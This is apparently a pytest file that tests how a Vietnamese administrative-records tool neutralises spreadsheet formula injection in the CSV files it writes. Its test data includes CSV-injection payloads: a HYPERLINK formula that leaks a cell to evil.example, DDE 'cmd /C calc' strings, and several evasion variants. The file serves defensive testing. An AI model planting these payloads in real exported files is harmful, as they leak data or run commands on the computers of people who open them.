"""Outputs safe to open (issue 13, item 5): no CSV tthc writes carries a live formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tthc.cellsafe import FORMULA_CHARS, SKIPPED_CHARS, neutralise, neutralise_arrow
from tthc.cli import main
from tthc.ingest.pipeline import IngestResult, ingest_paths

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', True),
    ("+cmd|' /C calc'!A0", True),
    ("@SUM(1+1)*cmd|' /C calc'!A0", True),
    ("-2+3+cmd|' /C calc'!A0", True),
    ("\t=1+1", True),
    ("\r=1+1", True),
    (" =1+1", True),
    ('"=1+1', True),
    ("'=1+1", True),
    ("\u00a0@SUM(A1)", True),
    ("＝1+1", True),  # full-width equals sign
    ("-", True),
    ("-5", False),  # numbers stay numbers
    ("+3", False),
    ("-1.234,5", False),
    ("-2e3", False),
    ("-12%", False),
    ("Đăng ký khai sinh", False),
    ("1-2", False),
    ("a=b", False),
    ("", False),
]


@pytest.mark.parametrize(("text", "neutralised"), HOSTILE)
def test_formula_prefixes_get_a_quote_and_numbers_stay(text: str, neutralised: bool) -> None:
    assert neutralise(text) == ("'" + text if neutralised else text)


def _starts_a_formula(text: str) -> bool:
    rest = text.lstrip(SKIPPED_CHARS)
    return text[0] in "\t\r" or (rest != "" and rest[0] in FORMULA_CHARS)


def _number_like(text: str) -> bool:
    body = text[1:] if text[0] in "+-" else text
    return any(c.isdigit() for c in body) and all(c in "0123456789.,eE+-%" for c in body)


@settings(max_examples=300, derandomize=True, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.none(),
            st.text(alphabet=st.sampled_from(FORMULA_CHARS + SKIPPED_CHARS + "0123456789.,e%aĐ(")),
            st.text(),
        ),
        max_size=20,
    )
)
def test_arrow_and_python_apply_one_rule(values: list[str | None]) -> None:
    table = pa.table({"c": pa.array(values, type=pa.string())})
    got = neutralise_arrow(table).column("c").to_pylist()
    assert got == [neutralise(v) for v in values]
    for v, out in zip(values, got, strict=True):
        # Nothing a spreadsheet reads as a formula survives, unless it is a plain number.
        if v and _starts_a_formula(v):
            assert out == "'" + v or (out == v and _number_like(v))
        else:
            assert out == v


def test_column_names_are_cells_too() -> None:
    table = neutralise_arrow(pa.table({"=cmd": ["x"], "-5": ["y"]}))
    assert table.column_names == ["'=cmd", "-5"]


def write(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


def test_the_rejects_csv_neutralises_cells_from_the_export(tmp_path: Path) -> None:
    src = write(
        tmp_path / "hostile.csv",
        [
            ["Mã hồ sơ", "Mã TTHC", "Trạng thái", "Ngày nhận"],
            ['=HYPERLINK("http://evil","x")', "1.001193", "@SUM(1+1)", "01/06/2026"],
            ["B", "-2+3", "+cmd|' /C calc'!A0", "01/06/2026"],
            ["C", "1.001193", "Đang xử lý", "01/06/2026"],
        ],
    )
    [r] = ingest_paths(tmp_path / "w.duckdb", "xa-a", [src])
    assert isinstance(r, IngestResult) and (r.counts.rows_read, r.counts.rejected) == (3, 2)
    raw = Path(r.rejects_csv).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw[3:].decode("utf-8"))))
    assert rows[0] == ["Dòng", "Trang", "Lý do", "Mã hồ sơ", "Mã TTHC", "Trạng thái", "Ngày nhận"]
    assert rows[1][3:] == [
        '\'=HYPERLINK("http://evil","x")',
        "1.001193",
        "'@SUM(1+1)",
        "01/06/2026",
    ]
    assert rows[2][3:] == ["B", "'-2+3", "'+cmd|' /C calc'!A0", "01/06/2026"]
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c and (c[0] in "=+@\t\r-")]


def test_stats_csv_neutralises_field_names_from_the_export(tmp_path: Path, capsys) -> None:
    src = write(
        tmp_path / "fields.csv",
        [
            ["Mã hồ sơ", "Mã TTHC", "Lĩnh vực", "Trạng thái", "Ngày nhận"],
            ["A", "1.001193", '=HYPERLINK("http://evil","Hộ tịch")', "Đang xử lý", "01/06/2026"],
            ["B", "1.001194", "-1+cmd|' /C calc'!A0", "Đang xử lý", "02/06/2026"],
        ],
    )
    db = tmp_path / "w.duckdb"
    [r] = ingest_paths(db, "xa-a", [src])
    assert r.counts.inserted == 2
    assert main(["stats", "--db", str(db), "--unit", "xa-a", "--month", "2026-06", "--csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    fields = [row[0] for row in rows[1:]]
    assert '\'=HYPERLINK("http://evil","Hộ tịch")' in fields
    assert "'-1+cmd|' /C calc'!A0" in fields
    assert not [c for row in rows for c in row if c and c[0] in "=+@\t\r"]
